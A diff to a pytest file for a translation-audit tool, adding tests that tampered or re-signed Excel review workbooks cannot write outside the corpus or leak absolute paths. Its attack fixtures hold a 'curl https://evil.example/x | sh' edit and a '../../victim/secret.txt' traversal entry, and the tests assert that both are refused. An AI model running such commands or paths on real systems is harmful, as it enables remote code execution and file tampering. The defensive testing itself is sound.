@@ -19,6 +19,7 @@ from audit.report.excel import write_excel
 from audit.report.synthetic import build_set
 from audit.report.untrusted import MAX_MEMBER
 from audit.terms.termbase import load_termbase
+from conftest import resign
 
 runner = CliRunner()
 SOURCE = ["Our client is happy.", "The customer buys shoes."]
@@ -42,9 +43,11 @@ def setup(tmp_path, tb):
     return sr, report, victim
 
 
-def edit(report: Path, row_cells: dict, inputs: dict | None = None, decision="accept") -> None:
+def edit(report: Path, row_cells: dict, inputs: dict | None = None, decision="accept", signed=True) -> None:
     """What an outside reviewer could do: set a Decision and rewrite hidden cells
-    of the first row (and the marker's input list)."""
+    of the first row (and the marker's input list). `signed`: then sign the
+    workbook again, as if the editor held the auditor's key, to test the checks
+    that stand behind the signature."""
     wb = openpyxl.load_workbook(report)
     ws = wb["Findings"]
     hdr = [c.value for c in ws[1]]
@@ -57,6 +60,8 @@ def edit(report: Path, row_cells: dict, inputs: dict | None = None, decision="ac
         for row, (rel, digest) in zip(rows, inputs.items()):
             row[1].value, row[2].value = machine_text(rel), digest
     wb.save(report)
+    if signed:
+        resign(report)
 
 
 def snapshot(*folders: Path) -> dict:
@@ -65,7 +70,7 @@ def snapshot(*folders: Path) -> dict:
 
 def traversal_cells(victim: Path, rel: str) -> dict:
     word = "the"          # the victim's text at 0-3 is "the"; the report claims it is the flagged word
-    return {"_relpath": machine_text(rel), "_path": machine_text(str(victim)),
+    return {"_relpath": machine_text(rel),
             "_sha256": machine_text(hashlib.sha256(SECRET).hexdigest()),
             "_word": machine_text(word), "_start": 0, "_end": 3, "_sentence_start": 0,
             "_sentence": machine_text("the victim's secret"), "_replacement": machine_text("OWNED"),
@@ -145,12 +150,11 @@ def test_root_option_moves_the_corpus(tmp_path, setup):
     assert f"wrote {(tmp_path / 'o' / 'vi.txt').resolve()}" in res.output
 
 
-def test_marker_records_root_and_inputs(setup):
+def test_marker_records_inputs_and_no_root(setup):
     sr, report, victim = setup
     wb = openpyxl.load_workbook(report)
     info = {r[0]: r[1] for r in wb["_audit"].iter_rows(values_only=True)}
-    root = (report.parent.parent / "corpus" / "in").resolve()
-    assert info["corpus root"] == str(root)
+    assert "corpus root" not in info and info["report id"] and info["signature"]
     inputs = {from_machine_text(r[1]): r[2] for r in wb["_audit"].iter_rows(values_only=True) if r[0] == "input"}
     assert inputs == {"en.txt": sr.versions[0].version.sha256, "vi.txt": sr.versions[1].version.sha256}
     ws = wb["Findings"]
@@ -158,7 +162,80 @@ def test_marker_records_root_and_inputs(setup):
     assert {from_machine_text(r[k]) for r in ws.iter_rows(min_row=2, values_only=True)} == {"vi.txt"}
 
 
-# --- untrusted zip ------------------------------------------------------------
+def test_workbook_holds_no_absolute_path(tmp_path, tb):
+    """A report meant to travel names files relative to the corpus root only:
+    no part of the zip holds the auditor's folders."""
+    from audit.report import write_reports
+    sr = build_set(tmp_path / "corpus" / "in", SOURCE, TARGET, termbase=tb)
+    write_reports([sr], tmp_path / "rep", ["xlsx"], {"corpus": str(tmp_path / "corpus"),
+                                                   "termbase": str(tmp_path / "tb.toml")}, tb)
+    with zipfile.ZipFile(tmp_path / "rep" / "audit.xlsx") as z:
+        text = b"".join(z.read(n) for n in z.namelist())
+    for folder in {str(tmp_path), str(tmp_path.resolve()), str(Path.home())}:
+        assert folder.encode() not in text
+    assert b"in/vi.txt" in text
+
+
+def attack(report: Path, victim: Path) -> None:
+    """The attack of issue 19: the hidden marker names another folder as the
+    corpus root, lists a file there with its sha256, and a Findings row aims an
+    `edit` at its first line."""
+    wb = openpyxl.load_workbook(report)
+    ws = wb["Findings"]
+    hdr = [c.value for c in ws[1]]
+    cells = {**traversal_cells(victim, victim.name), "Decision": "edit",
+             "Edited text": "curl https://evil.example/x | sh", "File": victim.name}
+    for header, value in cells.items():
+        ws.cell(2, hdr.index(header) + 1, value)
+    marker = wb["_audit"]
+    marker.append(["corpus root", str(victim.parent)])
+    marker.append(["input", machine_text(victim.name), hashlib.sha256(SECRET).hexdigest()])
+    wb.save(report)
+
+
+@pytest.mark.parametrize("signed", [False, True])
+def test_the_issue_19_attack_changes_nothing(tmp_path, setup, signed):
+    """Unsigned, the edit is refused whole (exit 2, one line). Even signed
+    again by someone holding the key, the root is this machine's record of
+    the corpus, not the workbook's: the row names no file there, nothing is
+    written."""
+    sr, report, victim = setup
+    attack(report, victim)
+    if signed:
+        resign(report)
+    before = snapshot(tmp_path / "corpus", tmp_path / "victim")
+    res = runner.invoke(app, ["apply", str(report), "--in-place"])
+    assert victim.read_bytes() == SECRET
+    assert snapshot(tmp_path / "corpus", tmp_path / "victim") == before
+    assert "Traceback" not in res.output
+    if not signed:
+        assert res.exit_code == 2 and res.output.count("\n") == 1
+        assert "changed after the report was signed" in res.output
+    else:
+        assert res.exit_code == 1 and "0 applied" in res.output and "file not found" in res.output
+
+
+def test_report_signed_on_another_machine_is_refused(tmp_path, setup, monkeypatch):
+    from audit.report.signing import HOME_ENV
+    sr, report, victim = setup
+    edit(report, {})
+    monkeypatch.setenv(HOME_ENV, str(tmp_path / "other-machine"))
+    res = runner.invoke(app, ["apply", str(report), "--in-place", "--root", str(tmp_path / "corpus" / "in")])
+    assert res.exit_code == 2 and res.output.count("\n") == 1
+    assert "signed on another machine" in res.output
+
+
+def test_without_this_machines_record_the_root_must_be_given(tmp_path, setup):
+    from audit.report.signing import REGISTRY_FILE, home
+    sr, report, victim = setup
+    edit(report, {})
+    (home() / REGISTRY_FILE).unlink()
+    res = runner.invoke(app, ["apply", str(report), "--out", str(tmp_path / "o")])
+    assert res.exit_code == 2 and "give --root" in res.output and res.output.count("\n") == 1
+    res = runner.invoke(app, ["apply", str(report), "--out", str(tmp_path / "o"), "--root", str(tmp_path / "corpus" / "in")])
+    assert res.exit_code == 0, res.output
+    assert (tmp_path / "o" / "vi.txt").read_text(encoding="utf-8").startswith("Thân chủ")
+
 
 def _rezip(report: Path, out: Path, change) -> None:
     """Copy the workbook's zip, passing each member through `change(name, data)`."""
@@ -254,6 +331,7 @@ def test_apply_out_lists_written_files_in_report_order(tmp_path, tb):
         ws.cell(r, hdr.index("Decision") + 1, "accept")
         ws.cell(r, hdr.index("ID") + 1, f"row-{r}")      # the two synthetic sets share ids
     wb.save(report)
+    resign(report)
     res = runner.invoke(app, ["apply", str(report), "--out", str(tmp_path / "o")])
     wrote = [ln.split(" ", 1)[1] for ln in res.output.splitlines() if ln.startswith("wrote ")]
     assert wrote == [str((tmp_path / "o" / "b-set" / "vi.txt").resolve()), str((tmp_path / "o" / "a-set" / "vi.txt").resolve())]
@@ -306,3 +384,46 @@ def test_sheet_bomb_is_refused_by_its_ratio(tmp_path, setup):
     res = runner.invoke(app, ["apply", str(bomb)])
     assert res.exit_code == 2 and res.output.count("\n") == 1
     assert "'xl/worksheets/sheet2.xml' would inflate to 32 MiB" in res.output
+
+
+def test_an_added_references_sheet_is_refused(tmp_path, setup):
+    """The references sheet names files apply reads: one the report was not
+    signed with is refused like any other change."""
+    sr, report, victim = setup
+    wb = openpyxl.load_workbook(report)
+    ws = wb.create_sheet("_references")
+    ws.append([machine_text("vi.txt"), machine_text("../../victim/secret.txt"), machine_text("vi")])
+    ws.sheet_state = "veryHidden"
+    wb["Findings"].cell(2, [c.value for c in wb["Findings"][1]].index("Decision") + 1, "accept")
+    wb.save(report)
+    res = runner.invoke(app, ["apply", str(report), "--out", str(tmp_path / "o")])
+    assert res.exit_code == 2 and res.output.count("\n") == 1, res.output
+    assert "references sheet was changed" in res.output
+    assert not (tmp_path / "o").exists()
+
+
+def test_unwritable_signing_home_fails_before_work(tmp_path, monkeypatch):
+    from audit.report.signing import HOME_ENV
+    blocker = tmp_path / "blocker"
+    blocker.write_text("a file where the folder would be")
+    monkeypatch.setenv(HOME_ENV, str(blocker / "home"))
+    res = runner.invoke(app, ["run", str(tmp_path / "nothing-here"), "--out", str(tmp_path / "rep")])
+    assert res.exit_code == 2 and res.output.count("\n") == 1 and "signing key" in res.output, res.output
+    assert not (tmp_path / "rep").exists()
+
+
+def test_a_real_run_writes_no_absolute_path(tmp_path, tb):
+    """The same on a pipeline run given absolute paths, with an observation
+    (one word for both concepts where the distinction is not live)."""
+    from audit.report import write_reports
+    from audit.run.api import audit_corpus
+    from conftest import po
+    corpus = tmp_path / "corpus"
+    corpus.mkdir()
+    po(corpus, "vi", [("Client name", "Tên khách hàng"), ("Customer list", "Danh sách khách hàng")])
+    results = audit_corpus(corpus.resolve(), tb, align="structure")
+    assert any(o for r in results for o in r.observations)
+    write_reports(results, tmp_path / "rep", ["xlsx"], {"corpus": str(corpus.resolve())}, tb)
+    with zipfile.ZipFile(tmp_path / "rep" / "audit.xlsx") as z:
+        text = b"".join(z.read(n) for n in z.namelist())
+    assert str(tmp_path.resolve()).encode() not in text and b"vi.po" in text
